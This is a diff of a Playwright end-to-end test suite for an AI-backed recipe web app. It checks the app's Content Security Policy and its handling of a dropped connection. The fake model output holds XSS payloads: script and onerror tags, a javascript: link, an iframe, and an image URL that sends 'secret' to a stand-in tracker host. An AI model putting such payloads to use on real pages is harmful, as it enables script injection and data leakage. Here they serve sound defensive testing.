@@ -1,26 +1,12 @@
-import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import type { Browser, Page } from 'playwright-core';
-import { launchChromium } from './browser.ts';
-import { startFakeHost } from './fake-host.ts';
-import { startServer } from './server-process.ts';
+import { describe, expect, it } from 'vitest';
+import type { Page } from 'playwright-core';
+import { useHostedStage } from './stage.ts';
 
-let browser: Browser;
-let host: Awaited<ReturnType<typeof startFakeHost>>;
-let server: Awaited<ReturnType<typeof startServer>>;
-beforeAll(async () => {
-  browser = await launchChromium();
-  host = await startFakeHost();
-  server = await startServer({ AI_BASE_URL: host.baseURL, AI_API_KEY: 'e2e-key', AI_MODEL: 'test-model' });
-});
-afterAll(async () => {
-  await server?.stop();
-  await host?.close();
-  await browser?.close();
-});
+const stage = useHostedStage((hostURL) => ({ AI_BASE_URL: hostURL, AI_API_KEY: 'e2e-key', AI_MODEL: 'test-model' }));
 
 /** A page that records every CSP violation, whether reported as an event or on the console. */
 async function watchedPage() {
-  const page = await browser.newPage();
+  const page = await stage.browser.newPage();
   const consoleCsp: string[] = [];
   page.on('console', (message) => /Content Security Policy/i.test(message.text()) && consoleCsp.push(message.text()));
   await page.addInitScript(() => {
@@ -33,7 +19,7 @@ async function watchedPage() {
 }
 
 async function askForRecipe(page: Page) {
-  await page.goto(server.url);
+  await page.goto(stage.server.url);
   const input = page.getByRole('textbox', { name: 'Add Ingredient' });
   for (const item of ['Tomato', 'Garlic', 'Pasta', 'Basil']) {
     await input.fill(item);
@@ -48,17 +34,17 @@ describe('under the Content-Security-Policy', () => {
       'Serve hot. <img src="https://tracker.invalid/p.gif" onerror="alert(1)"> <script>alert(2)</script>\n\n',
       '![a pixel](https://tracker.invalid/?q=secret) [tap](javascript:alert(3)) <iframe src="https://tracker.invalid/"></iframe>\n\n',
     ].join('');
-    host.answerWith({ kind: 'stream', pieces: ['## Tomato pasta\n\n', hostile, '1. Boil.\n2. Stir.\n\n', 'Enjoy!'], gapMs: 20 });
+    stage.host.answerWith({ kind: 'stream', pieces: ['## Tomato pasta\n\n', hostile, '1. Boil.\n2. Stir.\n\n', 'Enjoy!'], gapMs: 20 });
     const { page, violations } = await watchedPage();
     // Nothing the model wrote may make the page reach anywhere but its own origin, or pop a dialog.
     const elsewhere: string[] = [];
-    page.on('request', (request) => !request.url().startsWith(server.url) && elsewhere.push(request.url()));
+    page.on('request', (request) => !request.url().startsWith(stage.server.url) && elsewhere.push(request.url()));
     const dialogs: string[] = [];
     page.on('dialog', (dialog) => {
       dialogs.push(dialog.message());
       void dialog.dismiss();
     });
-    const response = await page.goto(server.url);
+    const response = await page.goto(stage.server.url);
     expect(response?.headers()['content-security-policy']).toContain("script-src 'self'");
 
     await askForRecipe(page);
@@ -78,7 +64,7 @@ describe('under the Content-Security-Policy', () => {
 
 describe('when the host drops the connection mid-recipe', () => {
   it('shows the alert, ends loading, keeps the text so far, and stays usable', async () => {
-    host.answerWith({ kind: 'reset', pieces: ['## Half a recipe\n\n', 'Boil the pasta.\n\n'] });
+    stage.host.answerWith({ kind: 'reset', pieces: ['## Half a recipe\n\n', 'Boil the pasta.\n\n'] });
     const { page, violations } = await watchedPage();
     await askForRecipe(page);
 
@@ -87,12 +73,12 @@ describe('when the host drops the connection mid-recipe', () => {
     expect(await alert.innerText()).not.toMatch(/fake host|socket|ECONNRESET|terminated/i);
     expect(await page.getByRole('status').count()).toBe(0);
 
-    host.answerWith({ kind: 'stream', pieces: ['## Second try\n\n', 'It worked.'], gapMs: 10 });
+    stage.host.answerWith({ kind: 'stream', pieces: ['## Second try\n\n', 'It worked.'], gapMs: 10 });
     await page.getByRole('button', { name: 'Try again' }).click();
     await page.getByRole('region', { name: 'Pantry Chef Recommendations' }).getByText('It worked.').waitFor();
     expect(await page.getByRole('alert').count()).toBe(0);
     expect(await violations()).toEqual([]);
-    expect(server.logs()).toMatch(/"msg":"recipe failed"/);
+    expect(stage.server.logs()).toMatch(/"msg":"recipe failed"/);
     await page.close();
   });
 });
